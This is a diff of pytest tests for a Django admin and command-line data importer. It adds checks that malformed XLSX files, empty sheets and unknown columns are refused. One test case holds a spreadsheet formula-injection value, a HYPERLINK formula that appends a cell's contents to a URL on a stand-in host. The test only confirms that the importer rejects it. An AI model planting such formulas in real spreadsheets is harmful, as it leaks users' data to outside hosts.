@@ -10,6 +10,7 @@ import os
 import tempfile
 import zipfile
 
+import openpyxl
 import pytest
 from django.core.management import call_command
 from django.core.management.base import CommandError
@@ -55,6 +56,15 @@ def zip_bytes() -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as archive:
         archive.writestr("notes.txt", "not a workbook")
+    return out.getvalue()
+
+
+def xlsx_bytes(rows: list[list]) -> bytes:
+    book = openpyxl.Workbook()
+    for row in rows:
+        book.active.append(row)
+    out = io.BytesIO()
+    book.save(out)
     return out.getvalue()
 
 
@@ -110,6 +120,16 @@ BAD_FILES = [
     ("zip-renamed-csv", "places.csv", CSV, zip_bytes(), "This is a ZIP archive"),
     ("xlsx-that-is-not-a-zip", "places.xlsx", XLSX, GOOD, "This is not an XLSX workbook"),
     ("zip-that-is-not-a-workbook", "places.xlsx", XLSX, zip_bytes(), "This XLSX workbook cannot be read"),
+    (
+        "xlsx-formula-cell",
+        "places.xlsx",
+        XLSX,
+        xlsx_bytes(
+            place_rows(1) + [["town-9", '=HYPERLINK("http://x.example/?"&A2,"Town 9")', "city", "RS"]]
+        ),
+        "Cell B3: a formula (=HYPERLINK(",
+    ),
+    ("xlsx-empty-sheet", "places.xlsx", XLSX, xlsx_bytes([]), "The workbook's first sheet is empty"),
     ("empty", "places.csv", CSV, b"", "file is empty"),
     (
         "header-twice",
@@ -210,6 +230,7 @@ def test_admin_confirmation_refuses_a_bad_file_clearly(
     response = curator_client.post(admin_url(Place, "process_import"), form)
 
     assert response.status_code == 200
+    assert not os.path.exists(os.path.join(tempfile.gettempdir(), form["import_file_name"]))  # not kept
     (shown,) = [str(m) for m in response.context["messages"]]
     assert shown.startswith("Nothing was imported: ")
     assert message in shown
@@ -341,6 +362,18 @@ def test_command_refuses_bad_rows(seed, tmp_path, capsys, name, model, rows, row
         call_command("import_records", model._meta.label, str(path), verbosity=0)
 
     assert f"row {row} (line {row + 1}), column '{column}': {message}" in capsys.readouterr().err
+    assert snapshot() == before
+
+
+def test_admin_preview_refuses_an_unknown_column(seed, curator_client):
+    rows = [["slug", "name", "kind", "country", "sumary"], ["town-1", "Town 1", "city", "RS", "lost"]]
+    before = snapshot()
+
+    response = upload(curator_client, Place, "places.csv", csv_bytes(rows))
+
+    assert response.status_code == 200
+    assert "Unknown column(s) &#x27;sumary&#x27;" in response.content.decode()
+    assert "confirm_form" not in response.context
     assert snapshot() == before
 
 
